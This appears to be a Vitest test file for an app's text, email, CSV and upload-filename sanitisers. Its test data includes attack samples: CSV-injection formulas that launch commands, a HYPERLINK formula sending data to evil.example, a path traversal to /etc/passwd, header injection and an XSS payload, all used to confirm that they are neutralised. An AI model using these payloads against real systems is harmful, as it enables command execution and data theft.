import { expect, test } from 'vitest';
import { attachmentHeader, safeFileName } from '#domain/documents/file-name.ts';
import { kindOf, sizeText } from '#domain/documents/files.ts';
import { csvLine } from '#domain/text/plain.ts';
import { EMAIL_PATTERN, emailAddress, filled, textBlock, textLine } from '#domain/text/text.ts';

function accepts(schema: typeof textLine, value: unknown): boolean {
  return schema.safeParse(value).success;
}

test.each([
  ['line', textLine, 200],
  ['block', textBlock, 2000],
] as const)('rejects a text %s over its limit, not counting outer spaces', (_, schema, limit) => {
  expect(accepts(schema, 'a'.repeat(limit))).toBe(true);
  expect(accepts(schema, `  ${'a'.repeat(limit)}  `)).toBe(true);
  expect(schema.safeParse('a'.repeat(limit + 1)).error?.issues[0]?.message).toBe(
    `Please use at most ${limit} characters`,
  );
});

test.each([textLine, textBlock])('accepts only strings, and removes outer spaces', (schema) => {
  for (const value of [undefined, null, 7, true, ['a'], { a: 1 }]) {
    expect(accepts(schema, value), `${value}`).toBe(false);
  }
  expect(schema.parse(' \n\u00a0Zoë  नमस्ते 😀\t ')).toBe('Zoë  नमस्ते 😀');
});

test.each(['\n', '\r', '\t', '\u2028'])(
  '1.3.11 accepts %j in a multi-line text, but not in a single line',
  (character) => {
    expect(accepts(textBlock, `a${character}b`)).toBe(true);
    expect(accepts(textLine, `a${character}b`)).toBe(false);
  },
);

const CONTROL_CHARACTERS = [0x00, 0x07, 0x0b, 0x1b, 0x1f, 0x7f, 0x80, 0x9f];

const LONE_SURROGATES = [0xd800, 0xdbff, 0xdc00, 0xdfff];

test.each([...CONTROL_CHARACTERS, ...LONE_SURROGATES])('2.2.1 rejects code point %i', (code) => {
  for (const schema of [textLine, textBlock]) {
    const { error } = schema.safeParse(`a${String.fromCharCode(code)}b`);
    const expected = 'Please remove the characters that cannot be printed';
    expect(error?.issues.map(({ message }) => message)).toEqual([expected]);
  }
});

test('accepts an email address only with text before @, between @ and a dot, and after the dot', () => {
  for (const address of ['a@b.c', 'a.b@c.d', 'a+b@c-d.ef', 'a@b.c.d', 'अ@ब.स']) {
    expect(EMAIL_PATTERN.test(address), address).toBe(true);
  }
  const incomplete = ['', 'a', 'a@', '@b.c', 'a@b', 'a@b.', 'a@.c'];
  const separated = ['a b@c.d', 'a@b c.d', 'a@b.c d', 'a@b@c.d', 'a@b.c\n'];
  for (const address of [...incomplete, ...separated]) {
    expect(EMAIL_PATTERN.test(address), address).toBe(false);
  }
});

test('1.3.11 rejects an email address that could deliver to another mailbox', () => {
  const listed = ['asha,victim@example.com', 'asha;b@example.com', 'mailto:asha@example.com'];
  const quoted = ['asha<victim@example.com>', '"victim@example.com', 'asha(victim)@example.com'];
  for (const address of [...listed, ...quoted]) {
    expect(emailAddress.safeParse(address).success, address).toBe(false);
  }
});

const FILLERS = ['\u00ad', '\u034f', '\u115f', '\u180e', '\u2800', '\u3164', '\uffa0', '\u{e0041}'];
const ZERO_WIDTH = ['\u200b', '\u2060', '\ufeff'];
const DIRECTION = ['\u061c', '\u200e', '\u200f', '\u202a', '\u202e', '\u2066', '\u2069'];
const INVISIBLE = [...FILLERS, ...ZERO_WIDTH, ...DIRECTION];

test.each(INVISIBLE)('removes the invisible character %j from every kind of text', (character) => {
  expect(textLine.parse(`As${character}ha${character}`)).toBe('Asha');
  expect(textBlock.parse(`${character}As${character}ha`)).toBe('Asha');
  expect(emailAddress.parse(`asha${character}@example.com${character}`)).toBe('asha@example.com');
});

const JOINERS = ['\u200c', '\u200d', '\ufe0f', '\ufe0f\u200d', '\u3164\u200d \u200b'];

test.each([...INVISIBLE, ...JOINERS])('treats a lone %j as an empty answer', (text) => {
  const { error } = filled('Please fill in').safeParse(text);
  expect(error?.issues[0]?.message).toBe('Please fill in');
});

test('keeps an invisible joiner between two characters that it joins', () => {
  for (const text of ['क्‍ष', 'র‍্য', 'می‌خواهم', '👩‍🎓', '❤️‍🔥', '👍🏽', '1️⃣', '👨‍👩‍👧‍👦']) {
    expect(textLine.parse(text)).toBe(text);
  }
});

test('removes invisible joiners from Latin text and composes accents', () => {
  expect(textLine.parse('As\u200dha\u200c Rao\ufe0f')).toBe('Asha Rao');
  expect(textLine.parse('Zoe\u0308')).toBe('Zo\u00eb');
  expect(emailAddress.safeParse('अ\u200d@example.com').success).toBe(false);
});

test('writes CSV with commas between cells, CRLF after rows, and numbers without quotes', () => {
  expect(csvLine(['a', 1, null, 2.5, ''])).toBe('a,1,,2.5,\r\n');
  expect(csvLine([-5])).toBe('-5\r\n');
});

test.each([
  ['a,b', '"a,b"'],
  ['say "yes"', '"say ""yes"""'],
  ['two\nlines', '"two\nlines"'],
  ['two\r\nlines', '"two\r\nlines"'],
  ['plain', 'plain'],
  ['हिन्दी 😀', 'हिन्दी 😀'],
])('quotes the CSV cell %j as RFC 4180 requires', (cell, written) => {
  expect(csvLine([cell])).toBe(`${written}\r\n`);
});

/** Examples from OWASP's page about CSV injection and from published lists of attacks. */
const formulas = ['=1+1', '+1+1', '-1+1', '+919876543210', '+91 98765=1+1', ';=cmd'];
const commands = ["@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"];
const calls = ["%0A-3+3+cmd|' /C calc'!D2\n-1", '=HYPERLINK("http://evil.example?x="&A1,"here")'];
const afterSpace = ['\t=1+1', '\r=1+1', '\u0000=1+1', '\n=1+1', ' =1+1'];
const inCell = [
  'a,=1+1',
  'a;=1+1',
  'a|=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n=1+1',
  'a","=1+1',
  '"=1+1',
];
const wide = ['＝1+1', '＋1', '－1', '＠SUM(1)'];
const attacks = [...formulas, ...commands, ...calls, ...afterSpace, ...inCell, ...wide];

function possibleCells(line: string): string[] {
  return line.split(/[,;|\t\r\n"]/).map((cell) => cell.trim());
}

test.each(attacks)('1.2.10 a spreadsheet does not read %j in our CSV as a formula', (attack) => {
  const line = csvLine(['before', attack, 'after']);

  for (const cell of possibleCells(line)) expect(cell).not.toMatch(/^[=+\-@＝＋－＠]/);
  expect(line).not.toMatch(/,"?\p{Cc}/u);
});

test.each([
  ['CV.pdf', 'CV.pdf'],
  ['  My  CV .pdf ', 'My CV .pdf'],
  ['../../etc/passwd.txt', 'passwd.txt'],
  ['C:\\Users\\Asha\\CV.docx', 'CV.docx'],
  ['.htaccess.txt', 'htaccess.txt'],
  ['CV.pdf...', 'CV.pdf'],
  ['CV\u202efdp.txt', 'CVfdp.txt'],
  ['a\r\nSet-Cookie: x.txt', 'aSet-Cookie x.txt'],
  ['<img src=x onerror=alert(1)>.png', 'img src=x onerror=alert(1).png'],
  ['प्रतिलेख.pdf', 'प्रतिलेख.pdf'],
  ['क्\u200dष.pdf', 'क्\u200dष.pdf'],
  ['cafe\u0301.txt', 'café.txt'],
  ['plan\ud800.txt', 'plan.txt'],
  ['.txt', ''],
  ['pdf', ''],
  ['', ''],
  ['folder/', ''],
])('stores an uploaded file named %j under the name %j', (sent, kept) =>
  expect(safeFileName(sent)).toBe(kept),
);

test('shortens a long file name between characters and keeps its extension', () => {
  const name = safeFileName(`${'👋'.repeat(500)}.docx`);
  expect(Array.from(name)).toHaveLength(120);
  expect(name).toMatch(/👋\.docx$/u);
});

test.each([
  ['CV.PDF', 'pdf'],
  ['me.JPG', 'jpeg'],
  ['plan.pdf.exe', undefined],
  ['plan.docm', undefined],
  ['plan.constructor', undefined],
])('recognises %s as the file kind %s', (name, kind) => expect(kindOf(name)).toBe(kind));

test('the download header has the file name in ASCII and in UTF-8', () => {
  expect(attachmentHeader('प्लान "1"; x.txt')).toBe(
    `attachment; filename="_____ _1_; x.txt"; filename*=UTF-8''%E0%A4%AA%E0%A5%8D%E0%A4%B2%E0%A4%BE%E0%A4%A8%20%221%22%3B%20x.txt`,
  );
  expect(attachmentHeader("it's (1)*.txt")).toContain("UTF-8''it%27s%20%281%29%2A.txt");
});

test.each([
  [1, '1 KB'],
  [86_016, '84 KB'],
  [1024 * 1024 - 1, '1 MB'],
  [1_500_000, '1.4 MB'],
  [10 * 1024 * 1024, '10 MB'],
])('shows a size of %d bytes as %s', (bytes, text) => expect(sizeText(bytes)).toBe(text));
